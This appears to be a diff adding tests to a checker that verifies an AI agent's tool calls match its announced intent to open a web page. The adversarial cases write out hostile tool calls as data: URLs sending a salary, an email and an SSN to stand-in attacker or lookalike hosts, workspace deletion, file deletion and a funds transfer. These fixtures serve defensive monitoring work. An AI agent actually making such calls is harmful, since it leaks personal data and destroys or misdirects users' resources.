@@ -41,6 +41,17 @@ def test_opening_a_web_place_navigates() -> None:
         assert r.reason == "ok", (preamble, r.detail)
 
 
+def test_opening_a_url_navigates() -> None:
+    # a URL alone as the object selects the browser's step as a web place's noun does
+    for preamble, name, args in [
+            ("I'll open https://github.com/login in the browser.", "navigate",
+             {"url": "https://github.com/login"}),
+            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
+             {"url": "https://www.notion.so/pricing"})]:
+        r = _recover(preamble, name, args)
+        assert r.reason == "ok", (preamble, r.detail)
+
+
 def test_opening_a_web_place_keeps_every_later_check() -> None:
     # adversarial siblings: the same announcement carrying another host, an action in the
     # path, data in the query, another kind of step, or a web place's verb on a file
@@ -68,6 +79,19 @@ def test_opening_a_web_place_keeps_every_later_check() -> None:
              {"url": "https://pricing.evil-cdn.net/u/priya.nair/salary/185000"}),
             ("Let me open the page on notion.so and then pay the invoice.", "transfer_funds",
              {"from_account": "checking", "to_account": "x", "amount": "10"}),
+            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
+             {"url": "https://www.notion.so/settings/billing/cancel?confirm=1"}),
+            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
+             {"url": "https://evil.example.net/pricing"}),
+            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
+             {"url": "https://www.notion.so.evil.net/pricing"}),
+            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
+             {"url": "https://www.notion.so/admin/members"}),
+            ("Let me open https://www.notion.so/pricing.", "browser__navigate",
+             {"url": "https://www.notion.so/pricing?email=priya@acme.com&ssn=123"}),
+            ("Let me open https://www.notion.so/pricing.", "browser__click",
+             {"element": "Delete workspace"}),
+            ("Let me open https://www.notion.so/pricing.", "delete_file", {"path": "pricing"}),
             ("Let me move the meeting.", "transfer_funds",
              {"from_account": "checking", "to_account": "x", "amount": "250"})]:
         r = _recover(preamble, name, args)
